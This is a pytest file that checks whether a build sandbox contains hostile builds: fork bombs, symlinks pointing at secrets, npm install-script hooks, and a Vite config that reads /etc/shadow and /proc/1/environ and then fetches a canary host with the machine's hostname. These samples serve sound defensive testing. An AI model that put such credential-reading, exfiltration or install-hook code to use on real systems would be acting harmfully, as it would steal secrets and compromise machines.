"""Harmful builds are stopped: each ends as expected, reaches no forbidden place, and leaves no process behind."""

import json
import re
import shutil
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path

import psutil
import pytest

from pytest_cookie.core.errors import BuildError
from pytest_cookie.sandbox.archive_extraction import Allowance, lay_down
from pytest_cookie.sandbox.bubblewrap import find_bubblewrap
from pytest_cookie.sandbox.builder import Builder, BuildReport, BuildSettings
from pytest_cookie.sandbox.inventory import PackageInventory
from pytest_cookie.sandbox.job import Job
from pytest_cookie.sandbox.limits import Limits
from pytest_cookie.sandbox.no_sandbox import NoSandbox
from pytest_cookie.sandbox.packages import default_store
from pytest_cookie.sandbox.tools import find_node
from tests.projects.hostile.build import HostileBuild
from tests.projects.hostile.registry import GUEST, Registry, hostile_archive
from tests.projects.hostile.surroundings import VARIABLE, Surroundings
from tests.projects.hostile.table import BUILDS
from tests.projects.mistakes import BASE, Mistake

LIMITS = Limits(seconds=120, process_mb=1_500, tree_mb=1_000, disk_mb=64, file_mb=32, log_mb=2)
ALLOWANCE = Allowance(total_bytes=20_000_000, files=1_000)


@pytest.fixture
def surroundings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Surroundings]:
    with Surroundings(tmp_path / "store") as surroundings:
        monkeypatch.setenv(VARIABLE, surroundings.song)
        yield surroundings


def builder(store: Path, limits: dict[str, float] | None = None) -> Builder:
    try:
        find_bubblewrap(find_node())
    except BuildError as error:
        pytest.skip(f"no build works here: {error}")
    return Builder(BuildSettings(store, limits=replace(LIMITS, **(limits or {})), allowance=ALLOWANCE))


def written(build: HostileBuild, surroundings: Surroundings, folder: Path) -> Path:
    folder.mkdir()
    for name, text in build.files.items():
        (folder / name).write_text(surroundings.named_in(text))
    return folder


def everything(told: BuildReport, site: Path) -> str:
    """The output of a build, and the files it left."""
    left = "".join(path.read_text(errors="replace") for path in sorted(site.rglob("*")) if path.is_file())
    return f"{told.build.failure and told.build.failure.message}\n{told.log}\n{left}"


def _marked(build: HostileBuild) -> object:
    return pytest.param(build, id=build.name, marks=() if build.is_short else pytest.mark.slow)


@pytest.mark.parametrize("build", [_marked(build) for build in BUILDS])
def test_it_is_stopped(build: HostileBuild, surroundings: Surroundings, tmp_path: Path):
    site = tmp_path / "site"
    sources = written(build, surroundings, tmp_path / "project")
    told = builder(tmp_path / "store", dict(build.limits)).build(sources, site)
    said = everything(told, site)
    assert surroundings.harm(said) == []
    failure = told.build.failure
    assert (failure.kind if failure else None) in build.kinds, failure
    assert [pattern for pattern in build.told if not re.search(pattern, said)] == [], said[:3000]
    assert [pattern for pattern in build.never if re.search(pattern, said)] == [], said[:3000]
    assert failure is None or failure.message.isprintable()
    assert (site / "index.html").is_file() is (failure is None)
    assert {path.name for path in tmp_path.iterdir()} <= {"project", "site", "store"}


def test_where_nothing_holds_a_build_every_canary_sings(surroundings: Surroundings, tmp_path: Path):
    sources = written(HostileBuild("control"), surroundings, tmp_path / "project")
    job = Job(sources, "node build.mjs", folders=("dist",))
    ended = NoSandbox(find_node()).run(job, LIMITS)
    lay_down(ended.output, tmp_path / "site", ALLOWANCE)
    page = (tmp_path / "site/index.html").read_text()
    assert page.count(" DONE ") == 6, page
    harm = " ".join(surroundings.harm(page))
    for words in ("to 127.0.0.1", "to '/var/tmp", "to b'", "secret is out", "there is more"):
        assert words in harm


@pytest.mark.slow
def test_a_bomb_of_forks_has_no_more_processes_than_it_may(surroundings: Surroundings, tmp_path: Path):
    build = next(build for build in BUILDS if build.name == "forks-without-end")
    sources = written(build, surroundings, tmp_path / "project")
    counted = []
    with ThreadPoolExecutor(1) as pool:
        building = pool.submit(builder(tmp_path / "store", dict(build.limits)).build, sources, tmp_path / "site")
        while not building.done():
            counted.append(len(psutil.Process().children(recursive=True)))
            time.sleep(0.2)
    around_it = 6  # what makes the sandbox, and the neighbour
    assert 20 < max(counted) <= build.limits["processes"] + around_it
    assert surroundings.harm("") == []


@pytest.mark.slow
def test_a_build_ends_with_who_began_it(surroundings: Surroundings, tmp_path: Path):
    sources = written(HostileBuild("sleeps-for-ever"), surroundings, tmp_path / "project")
    script = (
        "import sys; from pathlib import Path; from pytest_cookie.sandbox.builder import Builder, BuildSettings; "
        "Builder(BuildSettings(Path(sys.argv[1]))).build(Path(sys.argv[2]), Path(sys.argv[3]))"
    )
    command = [sys.executable, "-c", script, str(tmp_path / "store"), str(sources), str(tmp_path / "site")]
    with psutil.Popen(command) as builder:
        while not any(process.name() == "node" for process in surroundings.processes()):
            assert builder.poll() is None
            time.sleep(0.2)
        builder.kill()
    assert surroundings.harm("") == []


def test_links_among_the_sources_lead_nowhere(surroundings: Surroundings, tmp_path: Path):
    sources = written(HostileBuild("reads-its-links"), surroundings, tmp_path / "project")
    (sources / "secret.txt").symlink_to(surroundings.secret)
    (sources / "folder").symlink_to(surroundings.others)
    (sources / "src").mkdir()
    (sources / "src/up").symlink_to("../..")
    told = builder(tmp_path / "store").build(sources, tmp_path / "site")
    said = everything(told, tmp_path / "site")
    assert surroundings.harm(said) == []
    assert told.build.failure is None
    assert said.count("refused ENOENT") == 3


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("npm") is None, reason="needs npm")
def test_packages_run_nothing_and_lay_nothing_elsewhere(
    surroundings: Surroundings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    build = HostileBuild("writes-to-its-packages")
    sources = written(build, surroundings, tmp_path / "project")
    harm = f"touch {surroundings.watched}/cookie-was-here"
    scripts = dict.fromkeys(("preinstall", "install", "postinstall", "prepare", "dependencies"), harm)
    manifest = json.loads((sources / "package.json").read_text())
    manifest |= {"dependencies": {GUEST: "1.0.0"}, "scripts": {**manifest["scripts"], **scripts}}
    (sources / "package.json").write_text(json.dumps(manifest))
    (sources / ".npmrc").write_text(f"ignore-scripts=false\nscript-shell={surroundings.watched}/shell\nprefix=/\n")
    store = tmp_path / "store"
    with Registry(hostile_archive(str(surroundings.watched), str(surroundings.secret))) as registry:
        (sources / "package-lock.json").write_text(surroundings.named_in(registry.lock_file()))
        monkeypatch.setenv("npm_config_registry", registry.address)
        monkeypatch.setenv("npm_config_cache", str(tmp_path / "cache"))
        told = builder(store).build(sources, tmp_path / "site")
    said = everything(told, tmp_path / "site")
    assert surroundings.harm(said) == []
    assert told.build.failure is None, told.build.failure
    assert registry.asked == [f"/{GUEST}/-/{GUEST}-1.0.0.tgz"]
    (entry,) = (path for path in store.iterdir() if path.is_dir())
    assert PackageInventory.of(entry / "node_modules") == PackageInventory.read(entry)
    assert not any(path.is_symlink() for path in (entry / "node_modules" / GUEST).rglob("*"))
    assert re.findall(r"^(?:<main>)?([\w ]+) DONE", said, re.MULTILINE) == ["what is there", "scratch"]


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("npm") is None, reason="needs npm")
def test_the_configuration_of_a_bundler_reaches_nothing(surroundings: Surroundings, tmp_path: Path):
    peek = surroundings.named_in(
        "import { readFileSync } from 'node:fs'\nimport { hostname } from 'node:os'\n"
        "const seen = ['SECRET', '/etc/shadow', '/proc/1/environ'].map((path) => {\n"
        "  try { return readFileSync(path, 'utf8') } catch (error) { return (error as { code: string }).code }\n})\n"
        "try { await fetch('http://CANARY_TCP/' + hostname()); seen.push('sent') } catch { seen.push('unsent') }\n"
    )
    config = (BASE / "vite.config.ts").read_text()
    told_page = "define: { 'document.title': JSON.stringify(`peeked ${seen}`) }, plugins:"
    changed = {"vite.config.ts": peek + config.replace("plugins:", told_page)}
    told_in = (BASE / "src/main.tsx").read_text() + "\nconsole.log(document.title)\n"
    sources = Mistake({**changed, "src/main.tsx": told_in}, None).write(tmp_path / "project")
    told = builder(default_store()).build(sources, tmp_path / "site")
    said = everything(told, tmp_path / "site")
    assert surroundings.harm(said) == []
    assert told.build.failure is None, told.build.failure
    assert re.search(r"peeked ENOENT,ENOENT,[^`'\"]*,unsent", said)
